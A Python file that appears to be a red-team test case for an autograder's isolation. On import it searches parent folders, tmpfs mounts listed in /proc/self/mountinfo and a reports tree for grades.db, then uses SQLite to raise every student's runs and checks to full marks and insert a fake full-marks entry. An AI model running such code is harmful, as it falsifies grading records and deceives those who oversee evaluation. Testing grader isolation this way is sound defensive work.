"""Editing the gradebook.

Attack: no homework. At import, look for grades.db where the grader keeps it: the out folder (the hidden
folders are listed in /proc/self/mountinfo), every folder above the scratch folder and the folders beside
them, and the project's default `reports/` tree. In every one found, raise every run and check of every
student to full marks and add a full-marks run for this student, with SQLite.
Expected: no gradebook is reachable or writable: the batch's gradebook holds exactly what the grader
recorded, and every check of this submission scores 0.
"""

import glob
import os
import sqlite3

import grader

_rt_project = os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))
_rt_places = glob.glob(os.path.join(_rt_project, "reports", "**", "grades.db"), recursive=True)
_rt_folder = os.path.realpath(os.getcwd())
while _rt_folder != "/":
    _rt_folder = os.path.dirname(_rt_folder)
    _rt_places += glob.glob(os.path.join(_rt_folder, "grades.db")) + glob.glob(os.path.join(_rt_folder, "*", "grades.db"))
try:
    with open("/proc/self/mountinfo", encoding="utf-8") as _rt_handle:
        _rt_places += [os.path.join(line.split()[4], "grades.db") for line in _rt_handle if " tmpfs " in line]
except OSError:
    pass
for _rt_path in dict.fromkeys(_rt_places):
    if not os.path.exists(_rt_path):
        continue
    try:
        _rt_db = sqlite3.connect(_rt_path, timeout=2)
        _rt_db.execute("UPDATE runs SET points = max_points")
        _rt_db.execute("UPDATE check_results SET points = max_points, status = 'passed', message = ''")
        _rt_db.execute("INSERT INTO runs (student, assignment, source, sha256, suite_version, status, points, "
                       "max_points, graded_at, duration_s) SELECT 'edit_gradebook', assignment, source, sha256, "
                       "suite_version, 'graded', max_points, max_points, graded_at, 0 FROM runs LIMIT 1")
        _rt_db.commit()
        _rt_db.close()
        print(f"red team: EDITED {_rt_path}")
    except sqlite3.Error as error:
        print(f"red team: could not edit {_rt_path}: {error}")
print(f"red team: looked at {len(_rt_places)} places")
